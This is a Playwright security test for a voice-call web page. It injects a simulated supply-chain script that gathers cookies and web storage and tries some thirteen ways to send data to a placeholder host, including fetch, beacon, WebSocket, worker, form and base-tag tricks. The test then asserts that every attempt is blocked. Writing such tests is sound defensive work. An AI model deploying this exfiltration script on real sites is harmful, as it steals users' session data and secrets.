import { CallPage, expect, test } from "./call-fixtures";

const KEY = "key-that-nobody-may-see";
const ASSISTANT = "assistant-that-nobody-may-see";
/** A foreign host; nothing from the page may reach it. */
const ELSEWHERE = "https://elsewhere.example";
const webCall = {
  id: "5b2d5d5c-8b51-4c0f-9d2e-0d8f2d0c1a11",
  webCallUrl: "https://example.daily.co/room",
  artifactPlan: { videoRecordingEnabled: false },
};

declare global {
  interface Window {
    /** What the hostile script found, and which exfiltration attempts threw. */
    loot?: { found: string[]; blocked: string[]; page: string };
  }
}

/** A script from a compromised room library host: it collects data and tries to send it. */
async function hostile(elsewhere: string) {
  const found = [
    document.cookie,
    ...Object.entries(localStorage),
    ...Object.entries(sessionStorage),
  ];
  const blocked: string[] = [];
  const attempt = async (way: string, work: () => unknown) => {
    try {
      if ((await work()) === false) blocked.push(way);
    } catch {
      blocked.push(way);
    }
  };
  const add = (name: string, properties: object) =>
    new Promise<void>((loaded, failed) => {
      const element = Object.assign(document.createElement(name), properties);
      element.onload = () => loaded();
      element.onerror = failed;
      document.body.append(element);
      setTimeout(failed, 2000);
    });
  const to = (name: string) => `${elsewhere}/${name}?${encodeURIComponent(document.title)}`;
  const home = await (await fetch("/")).text();
  const ready = await (await fetch("/readyz")).text();
  const blob = (code: string) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  await Promise.all([
    attempt("fetch", () => fetch(to("fetch"), { mode: "no-cors" })),
    attempt("beacon", () => navigator.sendBeacon(to("beacon"), "x") && fetch(to("beacon"))),
    attempt("image", () => add("img", { src: to("image") })),
    attempt("script", () => add("script", { src: to("script") })),
    attempt("style", () => add("link", { rel: "stylesheet", href: to("style") })),
    attempt("frame", () => add("iframe", { src: to("frame") }).then(() => false)),
    attempt("sound", () => new Audio(to("sound")).play()),
    attempt("inline", () => {
      const script = document.createElement("script");
      script.textContent = "window.inline = true";
      document.body.append(script);
      return "inline" in window;
    }),
    attempt("eval", () => new Function("return 1")()),
    attempt("socket", () => {
      const socket = new WebSocket(to("socket").replace("https", "wss"));
      return new Promise((opened, failed) => {
        socket.onopen = opened;
        socket.onerror = failed;
      });
    }),
    attempt("worker", () => {
      const worker = new Worker(
        blob(`fetch(${JSON.stringify(to("worker"))}, { mode: "no-cors" })
          .then(() => postMessage(true), () => postMessage(false))`),
      );
      return new Promise((settle) => {
        worker.onmessage = ({ data }) => settle(data);
      });
    }),
    attempt("form", () => {
      const form = Object.assign(document.createElement("form"), {
        action: to("form"),
        method: "post",
      });
      document.body.append(form);
      return new Promise((settle) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          if (effectiveDirective === "form-action") settle(false);
        });
        form.submit();
      });
    }),
    attempt("base", () => {
      document.head.append(Object.assign(document.createElement("base"), { href: elsewhere }));
      return new URL("x", document.baseURI).origin === elsewhere;
    }),
  ]);
  const page =
    home + ready + document.documentElement.outerHTML + JSON.stringify(performance.getEntries());
  window.loot = { found: found.flat().filter(Boolean), blocked: blocked.sort(), page };
}

test("a hostile script from the room library's host finds no data of ours and cannot load or send anything elsewhere", async ({
  page,
  siteWith,
}) => {
  const site = await siteWith({ VAPI_API_KEY: KEY, VAPI_ASSISTANT_ID: ASSISTANT });
  const elsewhere: string[] = [];
  await page.route(`${ELSEWHERE}/**`, (route) => {
    elsewhere.push(route.request().url());
    return route.fulfill({ contentType: "text/javascript", body: "" });
  });
  await page.route("https://c.daily.co/**", (route) =>
    route.fulfill({
      contentType: "text/javascript",
      body: `(${hostile})(${JSON.stringify(ELSEWHERE)})`,
    }),
  );
  await page.route("**/api/voice/call/web", (route) =>
    route.fulfill({ status: 201, json: webCall }),
  );
  const call = new CallPage(page, site.url);
  await call.open();
  // Clears the test's cookies; the site sets none.
  await page.context().clearCookies();
  await call.start();
  const loot = () => page.evaluate(() => window.loot ?? null);
  await expect.poll(loot, { timeout: 15_000 }).not.toBeNull();
  const { found = [], blocked = [], page: seen = "" } = (await loot()) ?? {};
  expect(found).toEqual([]);
  for (const secret of [KEY, ASSISTANT]) expect(seen).not.toContain(secret);
  expect(blocked).toEqual(
    [
      ...["base", "beacon", "eval", "fetch", "form", "frame", "image", "inline"],
      ...["script", "socket", "sound", "style", "worker"],
    ].sort(),
  );
  expect(elsewhere).toEqual([]);
});
